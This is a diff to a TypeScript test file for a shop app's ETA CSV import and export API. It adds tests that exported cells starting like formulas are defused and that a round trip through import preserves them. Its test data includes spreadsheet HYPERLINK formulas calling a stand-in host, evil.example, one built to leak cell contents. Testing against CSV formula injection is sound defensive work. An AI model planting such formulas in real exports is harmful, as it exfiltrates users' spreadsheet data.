@@ -1,8 +1,9 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import { parseCsv } from "../../web/server/etas/parse-csv.ts";
+import { parseCsv } from "../../web/server/csv/read-csv.ts";
 import { calendarDate } from "../../web/server/etas/resolve-eta.ts";
 import { startEtaTestShop, type EtaTestShop } from "./eta-test-shop.ts";
 
+const HOSTILE = '=HYPERLINK("https://evil.example/","SKU")';
 const addDays = (days: number) => calendarDate(new Date(Date.now() + days * 86_400_000), "UTC");
 
 describe("ETA CSV import and export API", () => {
@@ -10,6 +11,7 @@ describe("ETA CSV import and export API", () => {
   let mug: bigint[];
   let cup: { productId: bigint; variantIds: bigint[] };
   let denyVariant: bigint;
+  let hostile: bigint;
   beforeAll(async () => {
     t = await startEtaTestShop("Eta Csv");
     mug = (
@@ -24,6 +26,11 @@ describe("ETA CSV import and export API", () => {
     denyVariant = (
       await t.addProduct("Plate", [
         { title: "Default Title", sku: "PLATE", inventoryPolicy: "DENY", available: 3 },
+      ])
+    ).variantIds[0]!;
+    hostile = (
+      await t.addProduct("Lamp", [
+        { title: "Default Title", sku: HOSTILE, inventoryPolicy: "CONTINUE", available: -4 },
       ])
     ).variantIds[0]!;
   });
@@ -62,13 +69,13 @@ describe("ETA CSV import and export API", () => {
       "overdue",
       "available",
     ]);
-    expect(rows).toHaveLength(4);
+    expect(rows).toHaveLength(5);
     const cupRow = rows.find((r) => r[1] === "CUP");
     // A title that starts like a formula is defused for spreadsheets.
     expect(cupRow).toEqual([
       cup.variantIds[0]!.toString(),
       "CUP",
-      '\'=Cup, "fine"',
+      '=Cup, "fine"',
       "Default Title",
       eta,
       'Say "when", please',
@@ -77,6 +84,9 @@ describe("ETA CSV import and export API", () => {
       "false",
       "0",
     ]);
+
+    // A title that starts like a formula is defused for spreadsheets; the import reads it back as set.
+    expect(text).toContain(`,"'=Cup, ""fine""",`);
 
     const before = await t.app.deps.db.variantEta.findMany({
       orderBy: { variantId: "asc" },
@@ -88,12 +98,48 @@ describe("ETA CSV import and export API", () => {
       body: text,
     });
     expect(back.status).toBe(200);
-    expect(await back.json()).toMatchObject({ applied: true, rows: 4, updated: 4, errors: [] });
+    expect(await back.json()).toMatchObject({ applied: true, rows: 5, updated: 5, errors: [] });
     const after = await t.app.deps.db.variantEta.findMany({
       orderBy: { variantId: "asc" },
       select: { variantId: true, etaDate: true, message: true },
     });
     expect(after.filter((r) => r.etaDate || r.message)).toEqual(before);
+  });
+
+  it("exports a SKU and message that start like a formula defused, stock counts as numbers", async () => {
+    const message = '=HYPERLINK("https://evil.example/?leak="&A1,"Track")';
+    expect((await put(hostile, { eta: addDays(20), message })).status).toBe(200);
+    const text = await (await t.api("/etas/export.csv")).text();
+    const line = text.split("\r\n").find((l) => l.startsWith(`${hostile},`));
+    expect(line).toBe(
+      `${hostile},"'${HOSTILE.replace(/"/g, '""')}",Lamp,Default Title,${addDays(20)},` +
+        `"'${message.replace(/"/g, '""')}",${addDays(20)},variant,false,-4`,
+    );
+    // Back in through the import, the cells are what the merchant set.
+    const back = await t.api("/etas/import", { method: "POST", json: { csv: text } });
+    expect(back.status).toBe(200);
+    const row = await t.app.deps.db.variantEta.findUniqueOrThrow({
+      where: { shopId_variantId: { shopId: t.shopId, variantId: hostile } },
+    });
+    expect(row.message).toBe(message);
+  });
+
+  it("imports a semicolon-separated file with a BOM and quoted fields, as European Excel saves it", async () => {
+    const csv =
+      `\uFEFFsku;eta;message\r\n"MUG-BLUE";${addDays(12)};"Ships; ""soon"", promised"\r\n` +
+      `"${HOSTILE.replace(/"/g, '""')}";${addDays(13)};Lamp\r\n`;
+    const res = await t.api("/etas/import", {
+      method: "POST",
+      headers: { "Content-Type": "text/csv" },
+      body: csv,
+    });
+    expect(res.status).toBe(200);
+    expect(await res.json()).toEqual({ applied: true, rows: 2, updated: 2, errors: [], warnings: [] });
+    const rows = await t.app.deps.db.variantEta.findMany({ orderBy: { variantId: "asc" } });
+    expect(rows.map((r) => [r.variantId, r.etaDate?.toISOString().slice(0, 10), r.message])).toEqual([
+      [mug[0]!, addDays(12), 'Ships; "soon", promised'],
+      [hostile, addDays(13), "Lamp"],
+    ]);
   });
 
   it("imports good rows by sku and variant id, as text/csv or JSON", async () => {
